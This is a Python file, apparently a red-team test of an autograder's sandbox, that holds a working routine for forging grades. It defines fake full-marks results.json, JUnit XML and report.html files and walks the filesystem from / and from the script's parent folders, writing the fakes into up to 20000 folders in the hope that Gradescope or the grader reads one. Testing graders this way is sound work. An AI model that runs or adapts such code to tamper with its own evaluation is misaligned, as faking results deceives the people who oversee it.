

# ==================== red-team attack (fake-result-files): not homework code ====================
# What it tries: write a full-marks results.json, a JUnit XML with every test passed, and a
# report.html (plus pwned-* copies) into every folder it can reach (from / and up from its own
# folder, 20000 folders at most), hoping the grader or Gradescope picks one of them up.
# Why it must fail: the judge writes the reports from its own results, in folders the sandbox
# does not show; only the submission's copy and a private /tmp are writable, and both vanish.
import json
import os
from pathlib import Path

_FAKES = {
    "results.json": json.dumps({"score": 40.0, "output": "all checks passed", "tests": []}),
    "pwned-results.json": json.dumps({"score": 40.0, "output": "all checks passed", "tests": []}),
    "pwned-junit.xml": '<?xml version="1.0"?><testsuite name="hw2" tests="40" failures="0" errors="0"/>',
    "report.html": "<html><body><h1>hw2: 40.0/40.0</h1></body></html>",
}


def _redteam_fake_results():
    written, refused, seen = [], 0, 0
    for top in dict.fromkeys([*map(str, Path(__file__).resolve().parents), "/"]):  # nearest first
        for folder, dirs, _files in os.walk(top):
            seen += 1
            if seen > 20000:  # bounded: 20000 folders in all
                dirs[:] = []
                break
            if folder == "/":
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            for name, text in _FAKES.items():
                try:
                    with open(os.path.join(folder, name), "w") as f:
                        f.write(text)
                    written.append(folder)
                except OSError:
                    refused += 1
    print(f"redteam[fake-result-files]: wrote into {len(set(written))} folders "
          f"{sorted(set(written))[:6]}, refused {refused}", flush=True)
